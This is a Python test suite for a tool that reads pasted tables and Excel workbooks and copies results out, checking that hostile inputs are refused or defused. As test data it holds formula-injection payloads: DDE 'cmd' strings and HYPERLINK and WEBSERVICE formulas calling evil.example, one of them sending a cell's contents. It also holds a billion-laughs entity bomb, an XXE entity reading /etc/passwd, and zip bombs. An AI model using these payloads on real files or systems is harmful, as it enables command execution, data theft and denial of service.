"""Pastes and files made to run, to hang or to fill the memory: refused with a reason, or read as what they are.

Nothing here is timed: what these tests guard against takes hours or all of the memory, and would never end.
"""

import csv
import io
import json
import zipfile
from collections.abc import Callable
from fractions import Fraction

import pytest
from openpyxl import Workbook, load_workbook

from calculators import workbook_reading
from calculators.appeals import code_of, sheet_of
from calculators.copies import copied
from calculators.desk import Desk
from calculators.numbers import read_number
from calculators.sheets import Sheet, runs_as_formula
from calculators.tables import MAX_BYTES, MAX_CELL, Grid, TableError, decode, read_grid
from calculators.workbook_reading import read_workbook
from calculators.workbooks import sheets_workbook
from tests.calculators.codes import held_in, sealed
from tests.calculators.examples import MESSY, SCHEME, SOURCE, ask, desk_with, run

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "－1+cmd|' /C calc'!A0",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
    '=WEBSERVICE("https://evil.example/")',
)
NUMBERS = ("-5", "-1,234.50", "12.5%", "-", "——", "0", "+3")
LINE = 19_000_000
"""Characters: as long as a paste may be."""


def outcome[Content](read: Callable[[Content], Grid], content: Content) -> Grid | TableError:
    """Return the table, or why there is none; any other error fails the test."""
    try:
        return read(content)
    except TableError as error:
        return error


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_is_copied_as_a_text(text: str) -> None:
    table = copied([["姓名", "得分"], [text, "-3.50"]])
    cells = next(csv.reader([table["text"].split("\n")[1]], delimiter="\t"))
    assert cells[0].startswith("'")
    assert cells[1] == "-3.50"


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_and_dashes_are_copied_as_they_are(text: str) -> None:
    assert copied([[text, "甲"]])["text"] == f"{text}\t甲\n"


def test_in_a_workbook_formulas_are_texts_behind_an_apostrophe_and_numbers_are_numbers() -> None:
    rows = [[text, Fraction(-7, 2)] for text in FORMULAS]
    content = sheets_workbook([Sheet("结果", ("姓名", "净额"), tuple(rows))])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    for text, row in zip(FORMULAS, sheet.iter_rows(min_row=2), strict=True):
        name, net = row[0], row[1]
        assert (name.value, name.data_type, bool(name.quotePrefix)) == (text.replace("\r", "\n"), "s", True)
        assert (net.value, net.data_type) == (-3.5, "n")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_heading_and_a_title_of_a_sheet_run_no_more_than_a_cell() -> None:
    content = sheets_workbook([Sheet("=1+1", ("=2+2",), (["甲"],))])
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A1"]
    assert (cell.value, cell.data_type) == ("=2+2", "s")


def test_what_excel_could_not_open_is_left_out_of_a_workbook() -> None:
    content = sheets_workbook([Sheet("结果", ("姓名",), (["张\x00三\ud800\x1b"],))])
    assert load_workbook(io.BytesIO(content)).worksheets[0]["A2"].value == "张三"


@pytest.mark.parametrize(
    "text",
    [
        " " * LINE + "甲",
        "甲" + " " * (LINE // 4) + "乙",
        "|甲|\n" + " " * 500_000 + "x",
        "|甲|\n" + "-" * LINE,
        "|甲|\n" + "-|" * (LINE // 2),
        "|甲|\n|" + " : " * (LINE // 4) + "|",
        '"' * LINE + "\t",
        '甲,"' * (LINE // 8),
        "\\|" * (LINE // 2),
        "9" * LINE,
        "," * LINE + "甲",
    ],
    ids=[
        "spaces",
        "gap",
        "blank rule",
        "dashes",
        "rule",
        "colons",
        "quotes",
        "open quotes",
        "bars",
        "digits",
        "commas",
    ],
)
def test_one_enormous_line_is_refused_with_a_reason_or_read(text: str) -> None:
    read = outcome(read_grid, text)
    if isinstance(read, TableError):
        assert len(read.reason) < 200
        assert read.hint
    else:
        assert all(len(cell) <= MAX_CELL for row in read.rows for cell in row)


def test_a_paste_over_the_limit_is_refused_before_it_is_looked_at() -> None:
    with pytest.raises(TableError, match="20 MB"):
        read_grid("甲" * (MAX_BYTES // 3 + 1))


def test_a_cell_longer_than_excel_s_names_its_row() -> None:
    with pytest.raises(TableError, match=r"第 2 行有一格长 40,000 字"):
        read_grid("姓名\t数\n" + "甲" * 40_000 + "\t1\n")


def test_invisible_and_turning_characters_and_controls_are_left_out_and_said() -> None:
    grid = read_grid("姓\u200b名\t\u202e销售\x00额\n张\ud800三\u2066\t1\ufeff2\n")
    assert grid.rows == [["姓名", "销售额"], ["张三", "12"]]
    assert grid.notes == ("6 个看不见的字符（零宽、控制、变换方向的）已去掉",)


def test_two_names_that_look_alike_are_one_name() -> None:
    grid = read_grid("姓名\t数\n王\u200d敏\t1\n王敏\t2\n")
    assert grid.rows[1][0] == grid.rows[2][0]


@pytest.mark.parametrize(
    "text", ["1e" + "9" * 50, "1e9999", "9" * 5000, "1" + "0" * 59, "-" * 60, "(" * 60, "¥" * 60, "万" * 60]
)
def test_no_number_takes_longer_than_its_length(text: str) -> None:
    reading = read_number(text)
    assert reading.reason or reading.value is not None


def test_a_page_s_request_with_half_a_character_is_answered() -> None:
    desk = desk_with(MESSY.replace("张三", "张\ud83d三\x00<script>alert(1)</script>"))
    ask(desk, "score")
    job = desk.start(json.dumps({"op": "workbook", "what": "result"}))
    run(job)
    content = job.payload()
    assert content is not None
    names = [row[0].value for row in load_workbook(io.BytesIO(content))["成绩"].iter_rows()]
    assert "张三<script>alert(1)</script>" in names


def book_bytes() -> bytes:
    book = Workbook()
    for row in (["姓名", "数"], ["张三", 1], ["李四", -2.5]):
        book.worksheets[0].append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def with_parts(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a workbook in which some parts are replaced."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book_bytes())) as source, zipfile.ZipFile(stream, "w", method) as target:
        for entry in source.infolist():
            if entry.filename not in parts:
                target.writestr(entry.filename, source.read(entry))
        for name, content in parts.items():
            target.writestr(name, content)
    return stream.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
NAMESPACE = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def sheet(rows: bytes, before: bytes = b"", prolog: bytes = b"") -> bytes:
    return with_parts(
        {
            SHEET: prolog
            + b"<worksheet "
            + NAMESPACE
            + b">"
            + before
            + b"<sheetData>"
            + rows
            + b"</sheetData></worksheet>"
        }
    )


def test_a_plain_workbook_is_read() -> None:
    assert read_workbook(book_bytes()).rows == [["姓名", "数"], ["张三", "1"], ["李四", "-2.5"]]


def test_two_cells_at_opposite_corners_are_two_cells() -> None:
    corners = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="B1048576"><v>2</v></c></row>'
    dimension = b'<dimension ref="A1:XFD1048576"/>'
    assert read_workbook(sheet(corners, dimension)).rows == [["1", ""], ["", "2"]]


@pytest.mark.parametrize("number", [b"2000000000", b"1e300", b"-5", b"9" * 5000, b"x"])
def test_a_row_number_out_of_this_world_costs_nothing(number: bytes) -> None:
    rows = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="' + number + b'"><c><v>2</v></c></row>'
    read = outcome(read_workbook, sheet(rows))
    assert "打不开" in read.reason if isinstance(read, TableError) else read.rows == [["1"], ["2"]]


def test_a_cell_beyond_the_columns_that_may_be_is_refused_and_an_empty_one_is_not() -> None:
    with pytest.raises(TableError, match="16,384 列"):
        read_workbook(sheet(b'<row r="1"><c r="XFD1"><v>1</v></c></row>' * 1000))
    assert read_workbook(sheet(b'<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"/></row>')).rows == [["1"]]


def test_a_bomb_is_refused_by_what_the_archive_says_of_itself() -> None:
    with pytest.raises(TableError, match=r"解开后有 [0-9]+ MB"):
        read_workbook(with_parts({f"xl/media/{place}.xml": b" " * 100_000_000 for place in range(5)}))
    with pytest.raises(TableError, match="100 倍"):
        read_workbook(with_parts({SHEET: b" " * 30_000_000}))


def test_an_archive_that_lies_about_its_sizes_gives_no_more_than_it_says() -> None:
    whole = bytearray(with_parts({SHEET: b"<worksheet>" + b" " * 30_000_000}))
    place = whole.rindex(SHEET.encode())  # in the archive's list, after 46 bytes of facts
    whole[place - 22 : place - 18] = (1000).to_bytes(4, "little")
    with pytest.raises(TableError):
        read_workbook(bytes(whole))


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_way_to_compress_that_no_excel_uses_is_refused(method: int) -> None:
    with pytest.raises(TableError, match="打不开"):
        read_workbook(with_parts({}, method))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_before_they_grow(encoding: str) -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0" encoding="{encoding}"?>{laughs}]><sst {NAMESPACE.decode()}><si><t>&a9;</t></si></sst>'
    with pytest.raises(TableError, match="DTD"):
        read_workbook(with_parts({STRINGS: text.encode(encoding)}))


def test_an_outside_file_is_never_asked_for() -> None:
    prolog = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    with pytest.raises(TableError, match="DTD"):
        read_workbook(sheet(b'<row><c t="str"><v>&f;</v></c></row>', prolog=prolog))


def test_more_texts_than_a_table_has_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook_reading, "MAX_TAGS", 1000)
    strings = b"<sst " + NAMESPACE + b">" + b"<si/>" * 1001 + b"</sst>"
    with pytest.raises(TableError, match="sharedStrings"):
        read_workbook(with_parts({STRINGS: strings}))


def test_one_row_may_not_fill_the_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook_reading, "MAX_ROW_BYTES", 100_000)
    with pytest.raises(TableError, match="一行太大"):
        read_workbook(sheet(b"<row>" + b"<c/>" * 100_000 + b"</row>"))
    assert read_workbook(sheet(b'<row><c t="str"><v>1</v></c></row>' * 10_000)).rows[-1] == ["1"]


def test_rows_without_anything_in_them_come_to_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook_reading, "MAX_CELLS", 1000)
    with pytest.raises(TableError, match="太多"):
        read_workbook(sheet(b"<row>" + b"<c/>" * 11 + b"</row>" + (b"<row>" + b"<c/>" * 11 + b"</row>") * 100))


@pytest.mark.parametrize(
    "cell",
    [
        b'<c t="s"><v>99999999</v></c>',
        b'<c t="s"><v>-1</v></c>',
        b"<c><v>" + b"9" * 10_000 + b"</v></c>",
        b"<c><v>1e400</v></c>",
        b"<c><v>nan</v></c>",
        b'<c t="d"><v>never</v></c>',
        b'<c t="zzz"><v>1</v></c>',
        b'<c s="99999"><v>1</v></c>',
        b'<c r="A0"><v>1</v></c>',
        b'<c r="====="><v>1</v></c>',
        b'<c t="inlineStr"><is/></c>',
        b"<c><f>1/0</f></c>",
        b'<c t="b"><v>yes</v></c>',
    ],
)
def test_a_broken_cell_gives_a_table_or_a_reason(cell: bytes) -> None:
    read = outcome(read_workbook, sheet(b'<row r="1"><c t="str"><v>x</v></c></row><row>' + cell + b"</row>"))
    assert read.hint if isinstance(read, TableError) else read.rows[0] == ["x"]


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04", b"PK\x05\x06" + bytes(18), b"\xd0\xcf\x11\xe0" + bytes(600), bytes(1000)]
)
def test_what_is_no_workbook_is_said_to_be_none(content: bytes) -> None:
    with pytest.raises(TableError):
        read_workbook(content)


@pytest.mark.parametrize("content", [b"\x80" * 10, b"\x00" * 1000, b"\xff" * 5])
def test_bytes_that_are_no_text_give_a_reason_or_nothing(content: bytes) -> None:
    with pytest.raises(TableError):
        read_grid(decode(content))


def test_what_runs_as_a_formula_is_known_by_its_first_character_that_shows() -> None:
    assert [runs_as_formula(text) for text in FORMULAS] == [True] * len(FORMULAS)
    assert [runs_as_formula(text) for text in NUMBERS] == [False] * len(NUMBERS)


def crafted(place: int, value: object) -> bytes:
    """Return what the code of a sheet holds, with one part rewritten."""
    held = json.loads(held_in(code_of(sheet_of(SCHEME, "张三", {"实际回款": Fraction(9, 10)}))))
    held[place] = value
    return json.dumps(held).encode()


@pytest.mark.parametrize(
    "content",
    [
        *(crafted(6, total) for total in ("abc", "1/0", "1e9999999", "", "９9.00", "9" * 5000 + ".00", None)),
        *(
            crafted(5, points)
            for points in ({"回款率": "abc"}, {"回款率": "1/0"}, {"回款率": None}, ["回款率"], "回款率")
        ),
        *(crafted(4, inputs) for inputs in ({"实际回款": "1/0"}, {"实际回款": {"": ""}}, {"\ud800": "1"})),
        *(crafted(place, "\ud800") for place in (0, 1, 2, 3, 7, 8)),
        b"[" * 100_000,
        b'{"":' * 30_000,
        b'["",[["",{},{}',
        crafted(5, [[[]]]).replace(b"[[[]]]", b"[" * 50_000 + b"]" * 50_000),
        b'["\\',
        b"null",
        "[“]".encode("gb18030"),
    ],
)
@pytest.mark.parametrize("op", ["appeal_read", "appeal_verify"])
def test_a_code_made_by_hand_is_refused_whatever_it_holds(op: str, content: bytes) -> None:
    request = {"op": op, "scheme": SOURCE.to_json(), "code": sealed(content)}
    state = run(Desk().start(json.dumps(request)))
    assert state["state"] == "failed"
    assert state["error"]["reason"] == "代码缺了一段，或有字符抄错"
    assert state["error"]["hint"]
